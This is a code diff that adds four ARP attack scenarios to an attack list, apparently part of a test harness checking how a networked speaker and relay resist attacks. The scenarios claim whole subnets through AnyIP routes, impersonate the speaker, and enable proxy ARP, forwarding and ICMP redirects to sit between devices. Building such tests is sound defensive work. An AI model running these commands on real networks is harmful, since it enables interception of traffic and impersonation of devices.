@@ -222,4 +222,47 @@ export const arpAttacks: readonly Attack[] = [
       await by.onSearch([speakersAnswer(own)])
     },
   },
+  {
+    id: 'arp-answers-for-everybody',
+    tries: 'to answer ARP for every address of the network, and take every connection in silence',
+    takes: [speaker, relay],
+    async run(by) {
+      // AnyIP: every address of the network is one of its own.
+      ip('route', 'add', 'local', '10.91.0.0/24', 'dev', 'lan0', 'table', 'local')
+      for (const port of [80, 443, SPEAKERS_PORT]) await by.serve(port, () => undefined)
+    },
+  },
+  {
+    id: 'arp-answers-for-everybody-and-describes',
+    tries: 'the same, with the speaker’s words, model and firmware changed, at every address',
+    takes: [speaker, relay],
+    async run(by) {
+      ip('route', 'add', 'local', '10.91.0.0/24', 'dev', 'lan0', 'table', 'local')
+      await describe(by, stolen)
+      await pageOfRelay(by)
+      await by.onSearch([speakersAnswer(own)])
+    },
+  },
+  {
+    id: 'arp-holds-half-the-network',
+    tries: 'to answer ARP for a hundred and twenty-eight addresses nobody has',
+    async run(by) {
+      ip('route', 'add', 'local', '10.91.0.128/25', 'dev', 'lan0', 'table', 'local')
+      await describe(by, stolen)
+    },
+  },
+  {
+    id: 'arp-redirects',
+    tries: 'to stand between, and to send an ICMP redirect for every packet it passes on',
+    takes: [speaker, relay],
+    run() {
+      set(
+        'net.ipv4.ip_forward=1',
+        'net.ipv4.conf.all.send_redirects=1',
+        'net.ipv4.conf.lan0.send_redirects=1',
+      )
+      for (const address of [speaker, relay]) ip('neigh', 'add', 'proxy', address, 'dev', 'lan0')
+      set('net.ipv4.conf.lan0.proxy_arp=1', 'net.ipv4.conf.lan0.proxy_arp_pvlan=1')
+    },
+  },
 ]
